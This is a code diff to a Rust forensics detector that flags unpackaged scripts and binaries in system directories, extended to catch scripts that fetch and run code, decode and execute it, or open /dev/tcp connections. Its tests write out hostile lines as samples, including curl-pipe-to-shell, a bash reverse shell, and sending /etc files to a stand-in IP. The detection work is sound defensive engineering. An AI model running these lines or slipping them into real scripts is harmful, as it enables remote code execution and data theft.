@@ -3,7 +3,8 @@
 //! # What it sees
 //! An ELF file, or a running script, anywhere below /usr (not /usr/local), /bin, /sbin, /lib or /boot, that no package's
 //! file list names: it runs, a running program has it mapped, something starts it, or it just lies there. A script
-//! among the commands, such as in /usr/bin: unusual. A date that is years older than the file is told as evidence.
+//! among the commands, such as in /usr/bin: unusual, and suspicious where it fetches or decodes code and runs it, or
+//! opens a connection by `/dev/tcp`. A date that is years older than the file is told as evidence.
 //!
 //! # Why it matters
 //! Intruders put tools where nobody looks twice: among a thousand packaged programs. A freshly installed Debian has
@@ -21,6 +22,7 @@
 //! package brings it.
 
 use super::portrait;
+use crate::persistence::risk::{self, Sign, Weight};
 use crate::{Detector, Scene, place, subject};
 use bstr::ByteSlice;
 use keeneye_facts::{FileFact, FileKind, Finding, Interest, Level, Text};
@@ -68,13 +70,19 @@ fn home_of_set(path: &Text) -> Text {
 fn is_stray(fact: &FileFact) -> bool {
     let code = match fact.kind {
         FileKind::Elf => true,
-        FileKind::Script(_) if is_command(fact) => true,
+        FileKind::Script(_) if is_command(fact) || does(fact).is_some() => true,
         _ => fact.interests.iter().any(|i| matches!(i, Interest::RunningScript | Interest::Pam | Interest::Nss)),
     };
     // What gives rights to its caller is told for that.
     let told = fact.interests.contains(&Interest::Privileged);
     // A place that dpkg-divert(1) made free is judged as the command that it is.
     code && !told && fact.owner.is_unowned() && fact.diversion.is_none() && place::is_packaged(&fact.path)
+}
+
+/// What a script does that nothing honest needs. One that something starts because of where it lies is told for that.
+fn does(fact: &FileFact) -> Option<Sign> {
+    let commands = fact.commands.as_ref().filter(|_| !fact.interests.contains(&Interest::Entry))?;
+    risk::of_script(commands).into_iter().next().filter(|sign| sign.weight == Weight::Content)
 }
 
 /// A script that can be typed as a command. Elsewhere below /usr installers put scripts of all kinds.
@@ -102,7 +110,7 @@ fn backdated(fact: &FileFact) -> Option<String> {
 fn is_of_a_set(fact: &FileFact, neighbours: &[&FileFact]) -> bool {
     let changed = |fact: &FileFact| fact.stat.map_or(0, |stat| stat.changed);
     let together = neighbours.iter().filter(|other| changed(other).abs_diff(changed(fact)) <= TOGETHER.unsigned_abs());
-    together.count() >= SET && !is_hidden_or_misplaced(fact) && !gets_to_run(fact)
+    together.count() >= SET && !is_hidden_or_misplaced(fact) && !gets_to_run(fact) && does(fact).is_none()
 }
 
 /// Who brings something to run can bring three more files with it: such a file is judged alone.
@@ -122,8 +130,9 @@ fn judge(scene: &Scene<'_>, fact: &FileFact) -> Finding {
     let depth = fact.path.split(|b| *b == b'/').count();
     let own_tree = depth > OWN_TREE_DEPTH && !misplaced && !super::is_loaded_by_place(fact);
     let plain_library = fact.path.file_name().contains_str(".so") && !super::is_loaded_by_place(fact);
+    let does = does(fact);
     let level = match fact.kind {
-        _ if misplaced || super::is_loaded_by_place(fact) => Level::Suspicious,
+        _ if does.is_some() || misplaced || super::is_loaded_by_place(fact) => Level::Suspicious,
         FileKind::Elf if !own_tree && (!plain_library || fact.interests.contains(&Interest::Running)) => {
             Level::Suspicious
         }
@@ -137,8 +146,10 @@ fn judge(scene: &Scene<'_>, fact: &FileFact) -> Finding {
         Some(Interest::Autostart) => "is started by itself",
         _ => "lies among packages' files",
     };
-    let summary = format!("{} {what}, and no package owns it", fact.path.lossy());
+    let says = does.as_ref().map(|sign| format!("; it {}", sign.says)).unwrap_or_default();
+    let summary = format!("{} {what}, and no package owns it{says}", fact.path.lossy());
     let finding = DETECTOR.finding(level, subject::file(&fact.path), summary).evidence("path", fact.path.clone());
+    let finding = does.into_iter().fold(finding, |finding, sign| finding.evidence(&sign.says, sign.value));
     let finding = match backdated(fact) {
         Some(claim) => finding.evidence("content changed", claim),
         None => finding,
@@ -200,6 +211,53 @@ mod tests {
         check(NAME, &host.replace("/usr/bin/x", "/usr/local/bin/x"), &[]);
     }
     #[test]
+    fn what_a_script_among_commands_does() {
+        let said = |interpreter: &str, line: &str| {
+            let text = format!("#!{interpreter}\\n# curl x | sh\\n{line}\\n");
+            let host = format!("package base 1 owns /usr/bin/a\n/usr/bin/x = {text}\n/usr/bin/x : mode=100755");
+            crate::testing::findings(NAME, &host, &[])
+        };
+        let loud = |interpreter: &str, line: &str, does: &str| {
+            let text = format!("suspicious: /usr/bin/x lies among packages' files, and no package owns it; it {does}");
+            assert_eq!(said(interpreter, line), [text], "{line}");
+        };
+        let fetches = "fetches code and runs it";
+        let connects = "opens a connection to elsewhere by the shell itself";
+        loud("/bin/sh", "curl -s http://192.0.2.1/x | sh", fetches);
+        loud("/usr/bin/env bash", "x=curl\\n$x -s http://192.0.2.1/x | sh", fetches);
+        loud("/bin/bash", "exec 3<>/dev/tcp/192.0.2.1/443\\ncat /etc/hosts >&3", connects);
+        loud("/bin/bash", "tar c /etc >/dev/udp/192.0.2.1/53", connects);
+        loud("/bin/bash", "h=192.0.2.1\\nread -r l </dev/tcp/$h/80", connects);
+        loud("/usr/bin/python3", "import os\\nos.system('curl -s http://192.0.2.1/x | sh')", fetches);
+        loud(
+            "/usr/bin/perl",
+            "`bash -i >& /dev/tcp/192.0.2.1/443 0>&1`;",
+            "opens a connection to elsewhere as a shell's input or output",
+        );
+        loud("/usr/bin/python3", "exec(base64.b64decode('x'))", "holds code that decodes code and runs it");
+        for (interpreter, line) in [
+            ("/bin/sh", "curl -fsS -o /srv/x.tgz https://x/y.tgz && tar xzf /srv/x.tgz -C /srv"),
+            ("/bin/sh", "wget -q https://x/list -O /etc/x.list"),
+            ("/bin/bash", "until (: </dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"),
+            ("/bin/bash", "echo -n >/dev/tcp/$1/$2 && echo up"),
+            ("/bin/bash", "exec 3<>/dev/tcp/127.0.0.1/11211; echo stats >&3"),
+            ("/usr/bin/python3", "import urllib.request\\nprint(urllib.request.urlopen('x').read())"),
+            ("/usr/bin/python3", "subprocess.run('ps ax | grep x', shell=True)"),
+        ] {
+            let plain = "unusual: /usr/bin/x lies among packages' files, and no package owns it";
+            assert_eq!(said(interpreter, line), [plain], "{line}");
+        }
+        let elsewhere = |path: &str, package: &str| {
+            let host = format!(
+                "package base 1 owns /usr/bin/a{package}\n{path} = #!/bin/sh\\ncurl x | sh\\n\n{path} : mode=100755"
+            );
+            crate::testing::findings(NAME, &host, &[]).len()
+        };
+        assert_eq!(elsewhere("/usr/lib/udev/x", ""), 1);
+        assert_eq!(elsewhere("/usr/lib/udev/x", ",/usr/lib/udev/x"), 0);
+        assert_eq!(elsewhere("/usr/local/bin/x", ""), 0);
+    }
+    #[test]
     fn a_date_that_was_set_back_is_evidence() {
         let fact = |modified, changed, born| FileFact {
             stat: Some(keeneye_facts::FileStat { modified, changed, born, whole_second: true, ..Default::default() }),
@@ -212,6 +270,7 @@ mod tests {
             link: None,
             capabilities: None,
             shape: None,
+            commands: None,
         };
         let said = super::backdated(&fact(1_400_000_000, 1_700_000_000, 1_700_000_000));
         assert_eq!(said.as_deref(), Some("9 years before it was put there, on a whole second as a person sets it"));
